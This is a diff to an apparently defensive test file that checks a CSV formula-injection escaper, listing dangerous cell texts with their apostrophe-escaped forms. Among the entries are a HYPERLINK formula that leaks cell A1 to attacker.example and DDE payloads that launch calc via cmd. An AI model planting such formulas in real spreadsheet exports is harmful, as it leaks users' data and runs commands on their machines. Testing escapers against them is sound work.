@@ -11,14 +11,14 @@ const parsers = {
     parseWithCsvParse(text, { record_delimiter: '\r\n', relax_column_count: true }) as string[][],
 };
 
-const dangerous: readonly (readonly [why: string, text: string, safe: string])[] = [
+const dangerousTexts: readonly (readonly [why: string, text: string, safe?: string])[] = [
   ['equals', '=1+1', "'=1+1"],
   ['plus', '+1+1', "'+1+1"],
   ['minus', '-1+1', "'-1+1"],
   ['at', '@SUM(A1)', "'@SUM(A1)"],
-  ['a link', '=HYPERLINK("http://attacker.example/?x="&A1,"open")', undefined],
-  ['a command', "=cmd|' /C calc'!A0", undefined],
-  ['a command behind a number', '-2+3+cmd|"/C calc"!A0', undefined],
+  ['a link', '=HYPERLINK("http://attacker.example/?x="&A1,"open")'],
+  ['a command', "=cmd|' /C calc'!A0"],
+  ['a command behind a number', '-2+3+cmd|"/C calc"!A0'],
   ['a tab', '\tx', "'\tx"],
   ['a carriage return', '\rx', "'\rx"],
   ['a line feed', '\nx', "'\nx"],
@@ -53,7 +53,10 @@ const dangerous: readonly (readonly [why: string, text: string, safe: string])[]
   ['only the sign', '=', "'="],
   ['a quoted formula', '="x"', '\'="x"'],
   ['an address', '=1+1@mail.example', "'=1+1@mail.example"],
-].map(([why, text, safe]) => [why, text, safe ?? `'${text}`] as const);
+];
+
+/** Where nothing else is said, the apostrophe stands before the whole. */
+const dangerous = dangerousTexts.map(([why, text, safe]) => [why, text, safe ?? `'${text}`] as const);
 
 const harmless = [
   '',
